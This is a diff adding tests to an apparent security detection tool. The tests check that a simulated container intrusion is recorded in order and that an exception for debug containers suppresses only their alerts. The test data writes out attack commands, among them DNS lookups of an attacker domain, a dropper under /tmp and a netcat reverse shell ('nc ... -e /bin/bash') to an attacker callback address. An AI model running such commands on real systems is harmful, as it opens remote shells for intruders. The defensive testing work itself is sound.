@@ -8,6 +8,8 @@ import { ingestEvents } from "../ingest/ingest";
 import { loadBuiltinRules } from "../rules/load";
 import { SAMPLE_FORMATS, sampleFileName } from "./formats";
 import { generateSamples } from "./generate";
+import { ATTACKER, buildIncident } from "./incident";
+import { processName } from "./model";
 
 const database = createTestDatabase();
 process.env.DATABASE_URL = database.url;
@@ -57,4 +59,56 @@ describe("sample incidents", () => {
         expect(counts[ruleId] ?? 0, `alerts of rule ${ruleId}`).toBeGreaterThanOrEqual(1);
     });
   }
+
+  it("tells the intrusion in order: web shell, recon, DNS, dropper in /tmp, reverse shell, interactive shell", () => {
+    const commands = buildIncident()
+      .events.filter((event) => event.kind === "exec" && event.process.container?.name === "php-fpm")
+      .map((event) => event.process.argv.join(" "));
+    const milestones = [
+      "sh -c id",
+      "uname -a",
+      `nslookup ${ATTACKER.domain}`,
+      `dig +short TXT cfg.${ATTACKER.domain}`,
+      "/tmp/.x/update",
+      `/tmp/nc ${ATTACKER.callbackIp} ${ATTACKER.port} -e /bin/bash`,
+      "bash -i",
+    ];
+    const positions = milestones.map((milestone) => commands.indexOf(milestone));
+    expect(positions).not.toContain(-1);
+    expect([...positions].sort((a, b) => a - b)).toEqual(positions);
+  });
+
+  it("keeps the SRE's debugging noise apart: one exception on the debug image silences it, not the attack", async () => {
+    const file = fs.readFileSync(path.join(samplesDir, sampleFileName("ecs")));
+    const networkTool = "1a289854-5b78-49fe-9440-8a8096b1ab50";
+    const report = await ingestEvents(chunks(file), {
+      fileName: "with-exception",
+      format: "ecs",
+      createdById: null,
+      exceptions: {
+        items: [
+          {
+            id: "debug-containers",
+            name: "kubectl debug sessions",
+            ruleId: networkTool,
+            listId: null,
+            groups: [[{ field: "container.image.name", operator: "is", value: "docker.io/library/alpine" }]],
+            expiresAt: null,
+          },
+        ],
+        attachments: [],
+        valueLists: new Map(),
+      },
+    });
+    const debugTools = buildIncident().events.filter(
+      (event) => event.kind === "exec" && event.process.container?.name.startsWith("debugger-"),
+    );
+    expect(debugTools.map((event) => processName(event.process))).toEqual(
+      expect.arrayContaining(["tcpdump", "dig", "nslookup"]),
+    );
+    expect(report.alerts.suppressedByException).toBeGreaterThanOrEqual(4);
+    const left = await prisma().alert.findMany({ where: { ruleId: networkTool }, select: { containerName: true } });
+    expect(left.length).toBeGreaterThan(0);
+    expect(new Set(left.map((alert) => alert.containerName))).toEqual(new Set(["php-fpm"]));
+  });
 });
